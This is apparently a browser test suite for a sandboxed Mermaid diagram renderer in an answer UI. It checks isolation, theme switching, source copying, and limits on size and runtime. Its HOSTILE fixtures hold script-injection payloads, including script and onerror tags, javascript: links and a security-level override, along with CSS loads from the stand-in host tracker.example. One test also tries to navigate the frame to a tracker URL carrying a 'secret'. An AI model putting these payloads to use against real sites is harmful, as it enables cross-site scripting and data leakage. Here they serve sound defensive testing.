// Mermaid diagrams of answers: drawn in a frame without origin and network, shown as an image. What a hostile one tries does nothing, and an endless one
// leaves the page usable.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { LOOKS, SIZES, clean, fits } from "./axe.mjs";
import { ask, choose, eventually, open, pause, picture } from "./harness.mjs";

let harness;
before(async () => (harness = await open()));
after(() => harness.close());

const fenced = (text) => `Before.\n\n\`\`\`mermaid\n${text}\n\`\`\`\n\nAfter.`;

/// A page whose next answer is this Markdown.
async function answered(markdown, options) {
  const page = await harness.page(options);
  page.hosts = new Set();
  page.on("request", (request) => page.hosts.add(new URL(request.url()).host || request.url().slice(0, 5)));
  await page.route("**/api/runs/*/answer", async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, json: { ...(await response.json()), markdown, body: markdown, sentences: [], sources: [] } });
  });
  await choose(page, "Flow", "direct");
  await ask(page, "What is a relay baton?");
  await page.locator(".turn .actions").waitFor();
  return page;
}

async function isDrawn(page) {
  await page.locator(".diagram-image img, .diagram-trouble").first().waitFor();
  assert.deepEqual(await page.locator(".diagram-trouble").allTextContents(), []);
  await page.waitForFunction(() => document.querySelector(".diagram-image img")?.naturalWidth > 50);
}

/// The drawing as text.
const svgOf = (page) => page.locator(".diagram-image img").first().evaluate((image) => decodeURIComponent(image.src.slice(image.src.indexOf(",") + 1)));

for (const [colorScheme, size] of LOOKS) {
  test(`a diagram is drawn, ${colorScheme}, ${size}`, async () => {
    const page = await harness.page({ ...SIZES[size], colorScheme });
    const asked = [];
    page.on("request", (request) => asked.push(new URL(request.url())));
    await choose(page, "Flow", "direct");
    await ask(page, "Show me a diagram.");
    await page.locator(".turn .actions").waitFor();
    await isDrawn(page);
    const svg = await svgOf(page);
    assert.match(svg.replace(/<[^>]*>/g, ""), /First runner[\s\S]*Second runner/);
    assert.doesNotMatch(svg, /foreignObject/i);
    const frame = page.locator("iframe");
    assert.deepEqual([await frame.getAttribute("sandbox"), await frame.getAttribute("src")], ["allow-scripts", "/assets/diagram/frame.html"]);
    assert.ok(asked.some((url) => url.pathname.startsWith("/assets/vendor/mermaid")), "the library was loaded for it");
    assert.deepEqual([...new Set(asked.map((url) => url.host).filter(Boolean))], [new URL(harness.url).host]);
    await clean(page, `a diagram, ${colorScheme}, ${size}`);
    await fits(page, `a diagram, ${colorScheme}, ${size}`);
    await picture(page, `50-diagram-${colorScheme}-${size}`);
  });
}

test("the source can be shown and copied, and the drawing follows the theme", async () => {
  const page = await answered(fenced("graph TD\n  A --> B"), { permissions: ["clipboard-read", "clipboard-write"], colorScheme: "light" });
  await isDrawn(page);
  const light = await svgOf(page);
  await page.getByRole("button", { name: "Switch to the dark theme" }).click();
  await eventually(async () => assert.notEqual(await svgOf(page), light));
  await page.getByRole("button", { name: "Show the source" }).click();
  await page.locator(".diagram .code", { hasText: "A --> B" }).waitFor();
  await page.locator(".diagram").getByRole("button", { name: "Copy the code" }).click();
  await page.locator(".diagram").getByText("Copied").waitFor();
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), "graph TD\n  A --> B");
  await clean(page, "the source of a diagram");
  await page.getByRole("button", { name: "Show the diagram" }).click();
  await isDrawn(page);
});

test("nothing is loaded where no diagram is", async () => {
  const page = await harness.page();
  const asked = [];
  page.on("request", (request) => asked.push(request.url()));
  await choose(page, "Flow", "direct");
  await ask(page, "What is a relay baton? In blocks, please.");
  await page.locator(".turn .actions").waitFor();
  await page.locator(".code-block .code-keyword").first().waitFor();
  assert.deepEqual(asked.filter((url) => /mermaid|diagram/.test(url)), []);
  assert.equal(await page.locator("iframe").count(), 0);
});

test("what cannot be drawn is shown as its source, with the reason", async () => {
  const page = await answered(fenced("graph TD\n  A -->"));
  await page.locator(".diagram-trouble", { hasText: /could not be drawn: .*line 2|could not be drawn: .*[Pp]arse/ }).waitFor();
  assert.equal(await page.locator(".diagram .code").textContent(), "graph TD\n  A -->");
  await clean(page, "a diagram that cannot be drawn");
  await picture(page, "51-diagram-trouble");
});

const HOSTILE = {
  "markup in a label": 'graph TD\n  A["<script>parent.hurt = 1; window.hurt = 1</script><img src=x onerror=\'top.hurt = 2\'>"] --> B["<iframe srcdoc=\'<script>top.hurt=3</script>\'></iframe>"]',
  "a link that is a script": 'graph TD\n  A --> B\n  click A href "javascript:top.hurt=4"\n  click B call alert(1)',
  "another security level": '%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%\ngraph TD\n  A["<img src=https://tracker.example/x.gif onerror=top.hurt=5>"] --> B\n  click A href "javascript:top.hurt=6"',
  "foreign content and styles that load": '%%{init: {"themeCSS": "@import url(https://tracker.example/a.css); * { background: url(https://tracker.example/b.png) }"}}%%\ngraph TD\n  A["<foreignObject><body onload=top.hurt=7></foreignObject>"] --> B\n  style A fill:url(https://tracker.example/c.svg)',
};

for (const [name, text] of Object.entries(HOSTILE)) {
  test(`a hostile diagram does nothing: ${name}`, async () => {
    const page = await answered(fenced(text));
    await page.locator(".diagram-image img, .diagram-trouble").first().waitFor();
    await pause(500);
    assert.deepEqual(await page.evaluate(() => [window.hurt ?? null, document.querySelectorAll(".prose script, .prose iframe, .prose svg:not(.icon) foreignObject, .prose a[href^='javascript']").length]), [null, 0]);
    for (const frame of page.frames().slice(1)) {
      assert.equal(await frame.evaluate(() => window.hurt ?? null), null, "nor in the frame");
      assert.equal(await frame.evaluate(() => self.origin), "null");
    }
    // A click on the image goes nowhere.
    const address = page.url();
    const image = page.locator(".diagram-image img");
    if (await image.count()) await image.click();
    assert.equal(page.url(), address);
    assert.deepEqual([...page.hosts], [new URL(harness.url).host], "nothing was fetched from elsewhere");
    // What its policy refused is on the console; nothing else may be.
    page.troubles = page.troubles.filter((trouble) => !/Content Security Policy|tracker\.example|javascript:/.test(trouble));
  });
}

test("the frame can neither reach the network nor the page, nor leave", async () => {
  const page = await answered(fenced("graph TD\n  A --> B"));
  await isDrawn(page);
  const frame = page.frames()[1];
  const tried = await frame.evaluate(async () => {
    const outcome = async (attempt) => {
      try {
        await attempt();
        return "worked";
      } catch (_) {
        return "refused";
      }
    };
    return {
      fetch: await outcome(() => fetch("/api/status")),
      page: await outcome(() => parent.document.title),
      stored: await outcome(() => localStorage.length),
      eval: await outcome(() => (0, eval)("1")),
      image: await new Promise((done) => {
        const image = new Image();
        image.onload = () => done("worked");
        image.onerror = () => done("refused");
        image.src = "/assets/icon.svg";
      }),
    };
  });
  assert.deepEqual(tried, { fetch: "refused", page: "refused", stored: "refused", eval: "worked", image: "refused" }, "an evaluation by the debugger is not held to the policy");
  await frame.evaluate(() => (location.href = "https://tracker.example/?secret")).catch(() => {});
  await pause(500);
  assert.equal(page.frames().some((one) => one.url().includes("tracker.example")), false, "the page's policy names the only address of frames");
  page.troubles = page.troubles.filter((trouble) => !/Content Security Policy|tracker\.example|sandbox|frame-src/.test(trouble));
});

test("a text of 1 MB is not drawn, and the page stays usable", async () => {
  const page = await answered(fenced(`graph TD\n${"  A --> B\n".repeat(100_000)}`));
  await page.locator(".diagram-trouble", { hasText: "longer than 20000 characters" }).waitFor();
  assert.equal(await page.locator("iframe").count(), 0);
  await page.locator("#question").fill("still here");
  assert.equal(await page.locator("#question").inputValue(), "still here");
});

test("an endless drawing is ended, the page stays responsive meanwhile, and the next one is drawn", async () => {
  const page = await harness.page();
  let isEndless = true;
  await page.route("**/assets/diagram/frame.js*", async (route) => {
    const response = await route.fetch();
    const body = await response.text();
    // The first frame loops forever in the middle of drawing.
    await route.fulfill({ response, body: isEndless ? body.replace("mermaid.initialize(settings(isDark));", "for (;;) {}") : body });
  });
  await page.route("**/api/runs/*/answer", async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, json: { ...(await response.json()), body: fenced("graph TD\n  A --> B"), sentences: [], sources: [] } });
  });
  await choose(page, "Flow", "direct");
  await ask(page, "What is a relay baton?");
  await page.locator(".diagram-wait").waitFor();
  await page.locator("iframe").waitFor({ state: "attached" });
  await pause(1_500);
  const longest = await page.evaluate(async () => {
    let [longest, before] = [0, performance.now()];
    for (let n = 0; n < 100; n += 1) {
      await new Promise((done) => setTimeout(done, 10));
      longest = Math.max(longest, performance.now() - before);
      before = performance.now();
    }
    return longest;
  });
  assert.ok(longest < 3_000, `the page answered nothing for ${Math.round(longest)} ms`);
  await page.locator("#question").fill("still here");
  assert.equal(await page.locator("#question").inputValue(), "still here");
  await page.locator(".diagram-trouble", { hasText: "longer than 10 seconds" }).waitFor();
  assert.equal(await page.locator("iframe").count(), 0, "the frame is gone");
  isEndless = false;
  await page.reload();
  await isDrawn(page);
});
